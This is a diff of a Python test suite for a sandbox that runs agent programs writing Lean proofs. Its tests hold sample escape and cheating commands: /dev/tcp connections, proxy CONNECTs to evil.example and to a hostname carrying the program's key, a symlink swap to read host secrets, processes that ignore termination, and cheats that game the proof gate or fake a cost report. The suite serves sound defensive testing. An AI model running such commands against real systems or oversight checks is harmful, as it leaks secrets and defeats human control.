@@ -3,7 +3,13 @@
 from __future__ import annotations
 
 import json
+import os
+import select
+import signal
 import socket
+import subprocess
+import sys
+import tempfile
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
@@ -23,7 +29,8 @@ from pipeline.prove.rungs import Engine, ModelHealth, WatchedAuthor, ladder
 from store.events.proofs import ProofVerified
 from tests.support.chat_server import ChatServer, Says
 from tests.support.gate import Case, GateProject
-from tests.support.prove import FILE, Searches
+from tests.support.prove import FILE, Searches, parameters
+from tests.support.specs import raw_spec
 from tests.support.trace import lean_itself
 
 EXAMPLES = Path(__file__).parents[2] / "examples" / "programs"
@@ -35,6 +42,8 @@ theorem target (p q : Prop) (h : p ∧ q) : q ∧ p := by
 theorem other (p : Prop) : p → p := fun h => h
 """
 KEY, SECRET = "key-of-the-program-1234", "what-is-on-the-host-5678"
+PAUSE = f"sleep 0.3{os.getpid()}"
+"""Of no other process of the machine."""
 FILLS = "sed -i 's/^  sorry/  exact ⟨h.2, h.1⟩/' A.lean"
 
 Tries = Callable[..., Attempt]
@@ -61,20 +70,23 @@ def tries(lean: Searches, real_lean: Path, tmp_path: Path, bubblewrap: None) -> 
         repairs: int = 0,
         sandbox: Sandbox = "bubblewrap",
         key_variable: str = "AGENT_KEY",
+        folder: str = "",
         **given: Any,
     ) -> Attempt:
+        project = worktree / folder
+        project.mkdir(exist_ok=True)
         if isinstance(body, str):
             script = tmp_path / "program"
             script.write_text(f"#!/bin/sh\n{body}\n", "utf-8")
             script.chmod(0o755)
             body = [str(script)]
-        (worktree / FILE).write_text(source, "utf-8")
+        (project / FILE).write_text(source, "utf-8")
         before = contents(worktree)
         author = ProgramAuthor(
             ProgramSpec(name="agent", run=tuple(body), seconds=seconds, key_variable=key_variable, **given),
             backend=lean_itself(real_lean, sandbox=sandbox),
             worktree=worktree,
-            project=worktree,
+            project=project,
             scratch=scratch,
             key=KEY,
             earlier={
@@ -99,6 +111,12 @@ def tries(lean: Searches, real_lean: Path, tmp_path: Path, bubblewrap: None) -> 
 
 def contents(folder: Path) -> dict[str, bytes]:
     return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}
+
+
+def left_of_it() -> list[int]:
+    """Return the processes of programs that pause."""
+    words = PAUSE.split()
+    return [one.pid for one in psutil.process_iter(["cmdline"]) if one.info["cmdline"] == words]
 
 
 COUNTED = "more than the sorry of target changed"
@@ -164,11 +182,20 @@ CHEATS: dict[str, tuple[str, str]] = {
     "writes what is no text": ("sed -i 's/^  sorry/  \\xff\\xfe/' A.lean", "no text"),
     "writes its key into the proof": (
         'sed -i "s/^  sorry/  exact $AGENT_KEY/" A.lean',
-        "the text holds the program's key",
+        "the file holds the program's key",
     ),
     "takes the sorry away": ("sed -i 's/^  sorry/  /' A.lean", "nothing stands in the sorry's place"),
     "imports more": ("sed -i '1i import Lean' A.lean; " + FILLS, "the header of the file changed"),
     "removes the file": ("rm A.lean", "A.lean is not what it was: No such file"),
+    "names a file by its key": ('touch "$AGENT_KEY"', "counts for nothing: ***"),
+    "names an axiom by its key": (
+        'sed -i "1i axiom $AGENT_KEY : True" A.lean',
+        "the file holds the program's key",
+    ),
+    "says in its last words that it spent a fortune": (
+        """printf 'everlean-usage: {"usd": 999999}'""",
+        "by its own account it cost $999999",
+    ),
 }
 
 
@@ -193,12 +220,17 @@ def test_a_program_sees_neither_the_host_nor_the_network_and_its_key_is_in_no_re
             echo "open:" $(ls /proc/self/fd); touch {tmp_path}/made {Path.home()}/made /usr/made
             bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && echo REACHED'
             bash -c 'exec 3<>/dev/tcp/127.0.0.1/${{HTTPS_PROXY##*:}}; head -c 99 <&3 & printf "$0" >&3; wait' \\
-                'CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n' """,
+                'CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n'
+            bash -c 'exec 3<>/dev/tcp/127.0.0.1/${{HTTPS_PROXY##*:}}; head -c 99 <&3 & printf "$0" >&3; wait' \\
+                "CONNECT $AGENT_KEY.example:443 HTTP/1.1\\r\\n\\r\\n" """,
             network=("allowed.example",),
         )
         with pytest.raises(BlockingIOError):
             listener.accept()
-    assert "hosts that it was refused: evil.example:443 (not on the list of hosts)" in attempt.detail
+    assert (
+        "hosts that it was refused: evil.example:443 (not on the list of hosts), ***.example:443"
+        in attempt.detail
+    )
     assert "AGENT_KEY=***" in attempt.detail
     assert "open: 0 1 2 3" in attempt.detail, "nothing of ours is left open to it"
     assert SECRET not in attempt.detail
@@ -206,21 +238,70 @@ def test_a_program_sees_neither_the_host_nor_the_network_and_its_key_is_in_no_re
     assert not (tmp_path / "made").exists()
 
 
+def test_a_program_that_puts_a_link_in_the_project_s_place_has_nothing_of_the_host_read(
+    tries: Tries, tmp_path: Path
+) -> None:
+    host = tmp_path / "host"
+    host.mkdir()
+    (host / FILE).write_text(f"-- {SECRET}\naxiom {SECRET} : True\n{SOURCE}", "utf-8")
+    attempt = tries(f"cd ..; mv Sub Old && ln -s {host} Sub", folder="Sub")
+    assert SECRET not in attempt.detail + attempt.effort.best
+    assert "A.lean is not what it was: a link, or behind one" in attempt.effort.best
+
+
 def test_a_program_is_asked_to_end_at_its_time_and_then_ended_with_all_that_it_started(
     tries: Tries, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr(programs, "GRACE_S", 0.5)
+    monkeypatch.setattr(programs, "GRACE_S", 1.0)
     attempt = tries(
-        """setsid sh -c 'trap "" TERM; while :; do sleep 0.3127; done' &
+        f"""setsid sh -c 'trap "" TERM; while :; do {PAUSE}; done' &
         trap 'echo asked to end' TERM
-        while :; do sleep 0.3127; done""",
-        seconds=1.5,
+        while :; do {PAUSE}; done""",
+        seconds=2,
     )
     assert attempt.outcome == "budget"
-    assert "it ended with: no end after 1" in attempt.detail
+    assert "it ended with: no end after " in attempt.detail
     assert "asked to end" in attempt.detail
-    left = [one.pid for one in psutil.process_iter(["cmdline"]) if "0.3127" in (one.info["cmdline"] or ())]
-    assert left == []
+    assert left_of_it() == []
+
+
+def test_a_job_that_is_to_end_takes_its_program_with_it_and_leaves_nothing(
+    real_lean: Path, tmp_path: Path, bubblewrap: None
+) -> None:
+    script, worktree, folder = (tmp_path / name for name in ("agent", "worktree", "job"))
+    worktree.mkdir()
+    folder.mkdir()
+    pipe = tmp_path / "pipe"
+    os.mkfifo(pipe)
+    script.write_text(f"#!/bin/sh\ntrap '' TERM\necho > {pipe}\nwhile :; do {PAUSE}; done\n", "utf-8")
+    script.chmod(0o755)
+    asked = parameters(
+        worktree,
+        SOURCE,
+        rung=5,
+        lean=lean_itself(real_lean, sandbox="bubblewrap"),
+        budget={"seconds": 600, "nodes": 20, "tactic_timeout_s": 20},
+        program={
+            "name": "agent",
+            "run": [str(script)],
+            "seconds": 600,
+            "network": ["allowed.example"],
+            "readable": [str(pipe)],
+        },
+    )
+    heard = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
+    job = [sys.executable, "-m", "pipeline.prove", "--spec", str(raw_spec("prove", asked, folder).write())]
+    with subprocess.Popen(job, stdout=subprocess.PIPE) as process:
+        try:
+            assert select.select([heard], [], [], 60)[0], "the program runs"
+            process.terminate()
+            assert process.wait(60) == 128 + signal.SIGTERM, "and no alarm ended it"
+        finally:
+            os.close(heard)
+            process.kill()
+    assert [one.name for one in folder.iterdir() if one.name.startswith("program-")] == []
+    assert list(Path(tempfile.gettempdir()).glob(f"everlean-gate-{process.pid}-*")) == []
+    assert left_of_it() == []
 
 
 def test_an_honest_program_gets_the_task_and_its_proof_passes_the_gate(tries: Tries, tmp_path: Path) -> None:
@@ -250,6 +331,12 @@ def test_an_honest_program_gets_the_task_and_its_proof_passes_the_gate(tries: Tr
         "tactic",
     )
     assert task["earlier"] == [{"by": "tactics, rung 0", "outcome": "exhausted", "text": "", "messages": []}]
+
+
+def test_what_lies_deeper_than_a_path_is_long_keeps_no_proof_from_being_read(tries: Tries) -> None:
+    folder, file = 200 * "d", 250 * "f"
+    attempt = tries(f"{FILLS}; for one in $(seq 22); do touch {file}; mkdir {folder}; cd {folder}; done")
+    assert attempt.outcome == "found", attempt.detail
 
 
 def test_lean_s_messages_go_back_to_a_program_that_has_another_run(tries: Tries) -> None:
@@ -284,6 +371,45 @@ def test_a_run_counts_what_the_settings_say_or_more_and_the_day_s_cap_ends_the_j
     with pytest.raises(ExceptionGroup) as caught:
         tries("touch ran", **money)
     assert caught.group_contains(JobError, match="leaves no room: .1.9000 are spent")
+
+
+def test_what_a_program_says_takes_no_more_than_its_own_day_from_what_all_share(
+    tries: Tries, tmp_path: Path
+) -> None:
+    spending = Spending(ledger=tmp_path / "spending.jsonl")
+    fortune = """echo 'everlean-usage: {"usd": 999999}'"""
+    tries(fortune, ledger=tmp_path / "spending.jsonl")
+    assert spending.spent_usd() == 0, "it is free by the settings"
+    tries(fortune, ledger=tmp_path / "spending.jsonl", cap_usd=2.0, usd_per_run=0.6)
+    assert spending.spent_usd() == 2.0
+
+
+def test_a_day_s_money_that_ends_between_two_runs_ends_the_attempt_which_was_paid_for(
+    tries: Tries, tmp_path: Path
+) -> None:
+    attempt = tries(
+        "sed -i 's/^  sorry/  rfl/' A.lean",
+        repairs=3,
+        ledger=tmp_path / "spending.jsonl",
+        cap_usd=1.0,
+        usd_per_run=0.6,
+    )
+    assert attempt.outcome == "exhausted"
+    assert "leaves no room" in attempt.detail
+
+
+def test_a_run_that_could_not_begin_costs_nothing(tries: Tries, tmp_path: Path) -> None:
+    spending = Spending(ledger=tmp_path / "spending.jsonl")
+    with pytest.raises(ExceptionGroup) as caught:
+        tries(
+            "touch ran",
+            readable=(tmp_path / "nowhere",),
+            ledger=tmp_path / "spending.jsonl",
+            cap_usd=2.0,
+            usd_per_run=0.6,
+        )
+    assert caught.group_contains(JobError, match="nowhere: not there")
+    assert spending.spent_usd() == 0
 
 
 @pytest.mark.parametrize(
